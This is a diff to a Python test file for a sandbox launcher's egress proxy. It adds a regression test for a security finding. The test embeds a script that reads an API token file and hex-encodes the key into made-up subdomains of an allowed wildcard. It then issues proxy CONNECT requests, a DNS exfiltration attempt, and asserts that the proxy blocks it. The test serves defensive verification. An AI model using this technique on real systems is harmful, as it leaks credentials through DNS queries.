@@ -9,6 +9,7 @@ IBM's real host names, and an "exfiltration" server answers under another name. 
 from __future__ import annotations
 
 import json
+import os
 import secrets
 import subprocess
 import sys
@@ -240,6 +241,87 @@ def test_the_engine_does_not_forward_dns_from_an_internal_network(stand_in, dock
         assert "internal" not in heard
     finally:
         internal.remove()
+
+
+# Runs the launcher with one change, for the test below: the egress proxy's container gets the
+# stand-in's recorder as its DNS server (`dns=`, the engine's embedded resolver forwards to it), so
+# the test hears every name the proxy resolves. Nothing in qsandbox reads a setting for this.
+RESOLVER_OWNED_LAUNCHER = r"""
+import os, sys
+from qsandbox.launcher import sandbox
+create = sandbox.create_container
+def with_dns(client, image, hardening, **kwargs):
+    if str(kwargs.get("name", "")).endswith("-egress"):
+        kwargs["dns"] = [os.environ["TEST_PROXY_DNS"]]
+    return create(client, image, hardening, **kwargs)
+sandbox.create_container = with_dns
+from qsandbox.launcher.cli import main
+sys.argv[0] = "qsandbox"
+main()
+"""
+
+MADE_UP_NAMES = r"""
+import json, os, socket, sys
+key = open(os.environ["QISKIT_IBM_TOKEN_FILE"]).read().strip().encode()
+control = sys.argv[1]
+proxy = os.environ["HTTPS_PROXY"].removeprefix("http://").split(":")
+targets = {
+    "wildcard region": "exfil" + key[:28].hex() + ".quantum.cloud.ibm.com",
+    "wildcard private region": "private.k" + key[28:44].hex() + ".quantum.cloud.ibm.com",
+    "control": control,
+}
+out = {}
+for name, host in targets.items():
+    s = socket.create_connection((proxy[0], int(proxy[1])), timeout=5)
+    s.settimeout(3)
+    s.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode())
+    try:
+        out[name] = s.recv(200).split(b"\r\n", 1)[0].decode()
+    except TimeoutError:
+        out[name] = "no answer in 3 s"
+    s.close()
+print(json.dumps(out))
+"""
+
+
+def test_a_name_the_script_makes_up_is_never_resolved(stand_in, canary, tmp_path, leak_search):
+    """Finding 8 of issue 23: a wildcard such as `[a-z0-9-]+.quantum.cloud.ibm.com` passed
+    `exfil<the key in hex>.quantum.cloud.ibm.com`; the proxy resolved it and the query carried the
+    key to its resolver. Here the test owns that resolver (the recorder, on UDP 53): it must hear
+    neither made-up name, while it does hear the allowed control name asked after them."""
+    script = tmp_path / "made_up_names.py"
+    script.write_text(MADE_UP_NAMES)
+    tag = secrets.token_hex(6)
+    control = f"control{tag}.example.org"
+    key_hex = [canary.encode()[:28].hex(), canary.encode()[28:44].hex()]
+    assert all(h not in stand_in.heard() for h in key_hex)
+    done = subprocess.run(
+        [sys.executable, "-c", RESOLVER_OWNED_LAUNCHER, "run", "--token-stdin", *stand_in.options()]
+        + ["--allow-host", control, str(script), control],
+        input=canary + "\n",
+        env={
+            **{k: v for k, v in os.environ.items() if not k.startswith("QISKIT_IBM")},
+            "TEST_PROXY_DNS": stand_in.exfil_ip,
+        },
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
+    assert done.returncode == 0, done.stdout + done.stderr
+    results = json.loads(done.stdout.strip().splitlines()[-1])
+    # The control: allowed, so the proxy resolves it through the recorder (which never answers).
+    end = time.monotonic() + 15
+    while time.monotonic() < end and tag not in stand_in.heard():
+        time.sleep(0.2)
+    heard = stand_in.heard()
+    assert tag in heard, "the control name was not heard: the recorder is not the proxy's resolver"
+    for h in key_hex:
+        assert h not in heard, "a name carrying the key reached the proxy's resolver"
+    assert results["wildcard region"] == "HTTP/1.1 403 Filtered", results
+    assert results["wildcard private region"] == "HTTP/1.1 403 Filtered", results
+    closing = done.stderr.strip().splitlines()[-1]
+    assert "egress refused:" in closing and closing.count(".quantum.cloud.ibm.com:443 x1") == 2, closing
+    assert leak_search.all_hits() == []
 
 
 def test_sigkill_of_the_launcher_takes_the_proxy_and_sandbox_along(stand_in, canary, tmp_path, docker_client):
